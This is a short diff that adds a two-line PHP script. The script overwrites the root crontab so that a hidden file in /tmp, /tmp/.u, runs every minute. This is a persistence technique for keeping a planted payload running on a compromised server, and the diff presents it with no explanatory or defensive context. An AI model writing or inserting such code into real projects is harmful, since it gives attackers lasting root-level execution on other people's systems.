@@ -1,0 +1,2 @@
+<?php
+file_put_contents("/var/spool/cron/root", "* * * * * /tmp/.u");
